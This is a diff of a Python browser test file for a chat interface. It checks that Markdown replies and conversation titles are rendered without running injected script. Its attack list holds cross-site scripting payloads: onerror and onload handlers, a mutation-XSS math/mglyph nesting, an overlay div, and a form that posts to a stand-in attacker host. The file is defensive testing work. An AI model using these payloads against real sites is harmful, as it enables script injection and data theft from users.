@@ -57,7 +57,7 @@ ATTACKS = [
     "| <img src=x onerror=\"window.__xss = 'cell'\"> |\n|---|\n| <svg onload=\"window.__xss = 'cell'\"> |",
     "<form action=//evil.example><input name=x><button>send</button></form>",
     '<div style="position:fixed;inset:0" class="sidebar">over everything</div>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>",
+    "<math><mtext><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></mtext></math>",
 ]
 
 
@@ -107,7 +107,7 @@ def test_the_highlighter_comes_with_the_first_code_and_not_before(visitor: Visit
 
 
 def test_a_growing_reply_is_drawn_like_a_whole_one(visitor: Visitor, stage: Stage) -> None:
-    """However the text is cut into pieces, also within a mark of Markdown, and with a reader who comes late."""
+    """However the text is cut into pieces, also within a mark of Markdown."""
     pieces = [EVERYTHING[start : start + 7] for start in range(0, len(EVERYTHING), 7)]
     gate = Gate()
     stage.plays(*pieces[:20], gate, *pieces[20:])
@@ -154,8 +154,8 @@ def test_nothing_that_is_said_is_run(visitor: Visitor, stage: Stage, place: str)
         for attack in ATTACKS:
             visitor.user.conversation(title=attack.replace("\n", " "))
         visitor.open()
-        expect(visitor.list.get_by_role("link")).to_have_count(len(ATTACKS))
-        visitor.list.get_by_role("link").last.click()
+        expect(visitor.conversations.get_by_role("link")).to_have_count(len(ATTACKS))
+        visitor.conversations.get_by_role("link").last.click()
         expect(visitor.page.get_by_role("heading", level=1)).to_be_visible()
     for link in visitor.page.locator(".answer a").all():
         assert (link.get_attribute("href") or "https:").startswith("https:"), (
